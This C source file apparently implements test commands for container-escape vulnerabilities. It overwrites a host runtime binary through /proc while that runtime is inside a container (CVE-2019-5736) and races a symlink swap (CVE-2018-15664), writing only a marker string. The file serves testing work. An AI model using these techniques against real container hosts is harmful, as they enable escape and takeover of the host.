/* Against the program that enters a container: overwrite it while it is inside (CVE-2019-5736). */
#include "attack.h"
#include <dirent.h>
#include <linux/capability.h>
#include <sched.h>
#include <sys/wait.h>
#include <time.h>

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

/* A handle of the program of a process whose name has the word in it, or -1. */
static int seen(const char *word)
{
	char path[300], target[300];
	struct dirent *entry;
	int found = -1;
	DIR *processes = opendir("/proc");
	while (found < 0 && (entry = readdir(processes))) {
		if (atoi(entry->d_name) < 2)
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		ssize_t length = readlink(path, target, sizeof target - 1);
		if (length <= 0)
			continue;
		target[length] = 0;
		if (strstr(target, word))
			found = open(path, O_PATH);
	}
	closedir(processes);
	return found;
}

/* Waits for the visitor, then writes into its program as soon as nobody runs it. */
static int overwrite(int count, char **words)
{
	char path[64];
	int program = -1;
	double end = now() + atof(words[1]);
	while (program < 0 && now() < end)
		program = seen(words[0]);
	if (program < 0)
		return lost("nobody came");
	snprintf(path, sizeof path, "/proc/self/fd/%d", program);
	while (now() < end) {
		int file = open(path, O_WRONLY);
		if (file >= 0)
			return said(write(file, "overwritten", 11));
		if (errno != ETXTBSY)
			return said(-1);
	}
	return said(-1);
}

/* A runtime as it was before: goes in as its own program, with the rights of the container, and does little. */
static int visit(int count, char **words)
{
	static const char *spaces[] = { "pid", "mnt" };
	char path[64];
	for (int number = 0; number < 2; number++) {
		snprintf(path, sizeof path, "/proc/%s/ns/%s", words[0], spaces[number]);
		int space = open(path, O_RDONLY);
		if (space < 0 || setns(space, 0))
			return said(-1);
	}
	if (fork()) {
		wait(NULL);
		return 0;
	}
	struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct rights[2] = { { 0xa80425fb, 0xa80425fb, 0 }, { 0, 0, 0 } };
	syscall(SYS_capset, &head, rights);
	usleep(500000);
	return 0;
}

/* Puts a link in the place of a folder as soon as somebody makes it (as CVE-2018-15664). */
static int swap(int count, char **words)
{
	char aside[300];
	snprintf(aside, sizeof aside, "%s-aside", words[0]);
	puts("ready");
	fflush(stdout);
	for (double end = now() + atof(words[2]); now() < end;)
		if (!rename(words[0], aside))
			return said(symlink(words[1], words[0]));
	return lost("nobody made it");
}

static const struct command commands[] = { { "swap", swap }, { "overwrite", overwrite }, { "visit", visit }, { NULL, NULL } };

int main(int count, char **words)
{
	return dispatch(commands, count, words);
}
